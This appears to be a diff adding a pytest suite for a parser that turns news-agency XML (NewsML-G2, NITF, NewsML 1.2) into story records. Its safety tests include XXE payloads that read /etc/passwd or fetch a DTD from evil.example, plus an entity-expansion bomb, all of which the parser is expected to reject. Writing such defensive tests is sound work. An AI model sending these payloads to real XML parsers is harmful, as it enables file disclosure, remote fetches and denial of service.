@@ -1,0 +1,282 @@
+"""NewsML-G2, NITF and NewsML 1.2 → RawStory; safe XML handling."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from agents.errors import StageError
+from agents.formats import parse_payload
+from agents.formats._common import iso_datetime
+from agents.formats._xml import MAX_DEPTH, decode_xml
+from schemas.records import AgencyTag
+
+GOLDEN = Path(__file__).resolve().parents[2] / "golden" / "formats"
+
+
+def golden(name: str) -> bytes:
+    return (GOLDEN / name).read_bytes()
+
+
+def error(payload: bytes, content_type: str | None = None) -> StageError:
+    with pytest.raises(StageError) as info:
+        parse_payload(payload, content_type)
+    assert info.value.stage == "validate"
+    return info.value
+
+
+# --------------------------------------------------------------------------- NewsML-G2
+
+
+def test_g2_news_item() -> None:
+    (story,) = parse_payload(golden("g2_newsitem.xml"), "application/vnd.iptc.g2.newsitem+xml")
+    assert story.uri == "urn:newsml:example.org:20240304:harbour-fire"
+    assert story.format == "newsml-g2"
+    assert story.version == "3"
+    assert (story.versioncreated, story.firstcreated) == ("2024-03-04T09:30:00Z", "2024-03-04T08:00:00Z")
+    assert story.language == "en-GB"
+    assert story.headline == "Fire breaks out at harbour warehouse"  # not the sub-headline
+    assert story.body == (
+        "<p>LONDON \u2014 A fire broke out at a <b>harbour</b> warehouse on Monday.</p>"
+        "<p>Crews from the London Fire Brigade &amp; police attended.</p>"
+    )
+    assert story.body_type == "text/html"
+    assert (story.byline, story.located, story.slugline) == ("By Jane Roe", "London", "UK-Fire-Harbour")
+    assert (story.urgency, story.pubstatus, story.provider) == (2, "usable", "Example Wire")
+    assert story.tags == [
+        AgencyTag("subject", "crime, law and justice", "http://cv.iptc.org/newscodes/mediatopic/02000000"),
+        AgencyTag("person", "Jane Smith", None, "jane-smith"),
+        AgencyTag(
+            "organisation", "London Fire Brigade", "https://example.org/org/fire-brigade"
+        ),  # inline catalog
+        AgencyTag("place", "London", "http://sws.geonames.org/2643743/"),
+    ]
+
+
+def test_g2_news_message_yields_text_items_and_skips_pictures() -> None:
+    stories = parse_payload(golden("g2_newsmessage.xml"))
+    assert [s.uri for s in stories] == ["urn:newsml:example.org:story1", "urn:newsml:example.org:story2"]
+    nitf_story, plain = stories
+    assert nitf_story.body is not None
+    assert nitf_story.body.startswith("<h2>Zwischentitel</h2>")
+    assert "Der Hafen von Hamburg ist wieder offen, sagte Erika Muster." in nitf_story.body
+    assert "media" not in nitf_story.body and "x.jpg" not in nitf_story.body
+    assert (nitf_story.language, nitf_story.pubstatus, nitf_story.provider) == ("de", "withheld", "EXW")
+    assert AgencyTag("organisation", "Hafengesellschaft", "exorg:HHLA") in nitf_story.tags
+    assert AgencyTag("place", "Hamburg") in nitf_story.tags
+    assert (plain.body, plain.body_type) == ("Plain text body of the second story.", "text/plain")
+
+
+def test_g2_packet_without_text_is_no_text_item() -> None:
+    err = error(golden("g2_pictures_only.xml"))
+    assert err.error_type == "NoTextItem"
+    assert "2 item(s)" in err.message and "picture" in err.message
+
+
+def test_g2_text_item_without_body_is_empty_body() -> None:
+    payload = b"""<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g1" version="1">
+      <itemMeta><itemClass qcode="ninat:text"/></itemMeta>
+      <contentSet><inlineXML contenttype="application/xhtml+xml"><html><body><p> </p></body></html></inlineXML>
+      </contentSet></newsItem>"""
+    err = error(payload)
+    assert err.error_type == "EmptyBody"
+    assert "'g1'" in err.message
+
+
+def test_g2_missing_guid() -> None:
+    payload = b"""<newsItem><itemMeta><itemClass qcode="ninat:text"/></itemMeta>
+      <contentSet><inlineData contenttype="text/plain">text</inlineData></contentSet></newsItem>"""
+    assert error(payload).error_type == "MissingUri"
+
+
+def test_g2_inline_data_with_markup_is_html() -> None:
+    payload = b"""<newsItem guid="g"><contentSet><inlineData contenttype="text/plain">&lt;p&gt;Hi&lt;/p&gt;</inlineData>
+      </contentSet></newsItem>"""
+    (story,) = parse_payload(payload)
+    assert (story.body, story.body_type) == ("<p>Hi</p>", "text/html")
+
+
+def test_g2_concept_and_planning_items_have_no_text() -> None:
+    for root in ("conceptItem", "planningItem", "packageItem", "knowledgeItem", "catalogItem"):
+        assert error(f"<{root} guid='x'/>".encode()).error_type == "NoTextItem"
+
+
+# --------------------------------------------------------------------------- NITF
+
+
+def test_nitf_latin1_with_cp1252_punctuation_and_html_entities() -> None:
+    (story,) = parse_payload(golden("nitf_latin1.xml"), "application/nitf+xml")
+    assert story.uri == "EXW-2024-0307-001"
+    assert story.format == "nitf"
+    assert story.version == "2"
+    assert story.versioncreated == "2024-03-07T08:15:00+01:00"
+    assert story.language == "es"
+    assert story.headline == "El puerto de Valencia reabre tras el incendio"
+    assert story.body == (
+        "<p>El puerto de Valencia reabrió el jueves \u2013 dijo la \u201cautoridad\u201d.</p>\n"
+        "      <p>Precio:\u00a010\u20ac.</p>"
+    )
+    assert story.byline == "Por Ana García Corresponsal"
+    assert story.located == "Valencia"
+    assert story.slugline == "ESPAÑA-PUERTO"
+    assert (story.urgency, story.pubstatus, story.provider) == (3, "usable", "Agencia Ejemplo")
+    assert story.tags == [
+        AgencyTag("subject", "Economía", "http://cv.iptc.org/newscodes/subjectcode/04000000"),
+        AgencyTag("person", "Ana García"),
+        AgencyTag("organisation", "Autoridad Portuaria", "exorg:APV"),
+        AgencyTag("place", "Valencia"),
+    ]
+
+
+def test_nitf_without_doc_id_gets_stable_content_uri() -> None:
+    payload = (
+        b"<nitf><body><body.head><hedline><hl1>H</hl1></hedline></body.head>"
+        b"<body.content><p>B</p></body.content></body></nitf>"
+    )
+    (a,) = parse_payload(payload)
+    (b,) = parse_payload(payload.replace(b"<nitf>", b"<nitf >"))
+    assert a.uri.startswith("urn:wirestream:nitf:sha256:")
+    assert a.uri == b.uri
+    (c,) = parse_payload(payload.replace(b"<p>B</p>", b"<p>C</p>"))
+    assert c.uri != a.uri
+
+
+def test_nitf_embargoed_is_withheld_and_bad_urgency_rejected() -> None:
+    base = b"<nitf><head><docdata management-status='embargoed'><doc-id id-string='n'/>%s</docdata></head>"
+    tail = b"<body><body.content><p>x</p></body.content></body></nitf>"
+    (story,) = parse_payload(base % b"" + tail)
+    assert story.pubstatus == "withheld"
+    assert error(base % b"<urgency ed-urg='12'/>" + tail).error_type == "InvalidFieldValue"
+
+
+def test_nitf_without_body_content() -> None:
+    assert (
+        error(b"<nitf><head><docdata><doc-id id-string='n'/></docdata></head></nitf>").error_type
+        == "EmptyBody"
+    )
+
+
+# --------------------------------------------------------------------------- NewsML 1.2
+
+
+def test_newsml1_packet() -> None:
+    stories = parse_payload(golden("newsml1_packet.xml"), "application/vnd.iptc.newsml+xml")
+    assert [s.uri for s in stories] == [
+        "urn:newsml:example.org:20240306:TX-001",
+        "urn:newsml:example.org:20240306:TX-002",
+    ]  # the photo item is skipped
+    first, second = stories
+    assert first.format == "newsml-1.2"
+    assert first.version == "2"
+    assert (first.versioncreated, first.firstcreated) == (
+        "2024-03-06T09:55:00+01:00",
+        "2024-03-06T09:30:00+01:00",
+    )
+    assert first.headline == "Le port rouvre après l'incendie"
+    assert (first.byline, first.slugline, first.located, first.language) == (
+        "Jean Dupont",
+        "France-port",
+        "Marseille",
+        "fr",
+    )
+    assert (
+        first.body
+        == "<p>Le port de Marseille a rouvert mercredi.</p>\n            <p>Aucun blessé n'a été signalé.</p>"
+    )
+    assert "color" not in (first.body or "")  # the style sheet is not the body
+    assert (first.urgency, first.pubstatus, first.provider) == (3, "usable", "EXW")  # envelope priority
+    assert AgencyTag("subject", None, "http://cv.iptc.org/newscodes/subjectcode/04000000") in first.tags
+    assert (second.body, second.body_type, second.urgency, second.pubstatus) == (
+        "<P>Second item body.</P>",
+        "text/html",
+        1,
+        "withheld",
+    )
+
+
+def test_newsml1_only_photos_is_no_text_item() -> None:
+    payload = b"""<NewsML><NewsItem><Identification><NewsIdentifier><ProviderId>p</ProviderId><DateId>d</DateId>
+      <NewsItemId>i</NewsItemId><RevisionId>1</RevisionId></NewsIdentifier></Identification>
+      <NewsComponent><ContentItem Href="x.jpg"><MediaType FormalName="Photo"/></ContentItem></NewsComponent>
+      </NewsItem></NewsML>"""
+    assert error(payload).error_type == "NoTextItem"
+
+
+# --------------------------------------------------------------------------- safety and encodings
+
+
+@pytest.mark.parametrize(
+    ("payload", "error_type"),
+    [
+        (
+            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><nitf><p>&b;</p></nitf>',
+            "UnsafeXml",
+        ),
+        (
+            b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>',
+            "UnsafeXml",
+        ),
+        (
+            b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><nitf/>',
+            "UnsafeXml",
+        ),
+        (b"<nitf>" + b"<a>" * (MAX_DEPTH + 5) + b"</a>" * (MAX_DEPTH + 5) + b"</nitf>", "XmlTooDeep"),
+        (b"<nitf><body>", "InvalidXml"),
+        (b"<nitf>&undefinedthing;</nitf>", "InvalidXml"),
+        (b'<?xml version="1.0" encoding="x-nonsense"?><nitf/>', "UnknownEncoding"),
+        (b'<?xml version="1.0" encoding="utf-8"?><nitf>caf\xe9</nitf>', "InvalidUtf8"),
+        (b"<rss><channel/></rss>", "UnknownFormat"),
+        (b"<nitf>" + b" " * (9 * 1024 * 1024) + b"</nitf>", "PayloadTooLarge"),
+    ],
+)
+def test_unsafe_or_broken_xml(payload: bytes, error_type: str) -> None:
+    err = error(payload)
+    assert err.error_type == error_type
+    assert len(err.message) < 300
+
+
+def test_unsafe_xml_refused_even_with_content_type() -> None:
+    payload = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "a">]><newsItem guid="g"/>'
+    assert error(payload, "application/vnd.iptc.g2.newsitem+xml").error_type == "UnsafeXml"
+
+
+def test_decode_rules() -> None:
+    assert decode_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\x93x\x94</a>', "t").endswith(
+        "<a>\u201cx\u201d</a>"
+    )
+    # A Latin-1 declaration over UTF-8 bytes: the bytes win.
+    assert decode_xml('<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>'.encode(), "t").endswith(
+        "<a>é</a>"
+    )
+    # Undeclared and not UTF-8: Windows-1252.
+    assert decode_xml(b"<a>caf\xe9</a>", "t") == "<a>café</a>"
+    assert decode_xml("<a>ü</a>".encode("utf-16"), "t") == "<a>ü</a>"
+    assert decode_xml(b"\xef\xbb\xbf<a>\xc3\xbc</a>", "t") == "<a>ü</a>"
+
+
+def test_html_entities_without_dtd() -> None:
+    payload = (
+        b"<nitf><head><docdata><doc-id id-string='e'/></docdata></head>"
+        b"<body><body.content><p>a&nbsp;b&mdash;c &amp; d</p></body.content></body></nitf>"
+    )
+    (story,) = parse_payload(payload)
+    assert story.body == "<p>a\u00a0b\u2014c &amp; d</p>"
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("20140829T134951+0000", "2014-08-29T13:49:51+00:00"),
+        ("20151210T191044Z", "2015-12-10T19:10:44Z"),
+        ("20131020", "2013-10-20"),
+        ("2024-03-04T09:30:00Z", "2024-03-04T09:30:00Z"),
+        ("2017-08-24T04:38:34+0000", "2017-08-24T04:38:34+00:00"),
+        ("2016-01-12 12:35:40", "2016-01-12 12:35:40"),
+        ("not a date", "not a date"),
+        (" ", None),
+        (None, None),
+    ],
+)
+def test_iso_datetime(value: str | None, expected: str | None) -> None:
+    assert iso_datetime(value) == expected
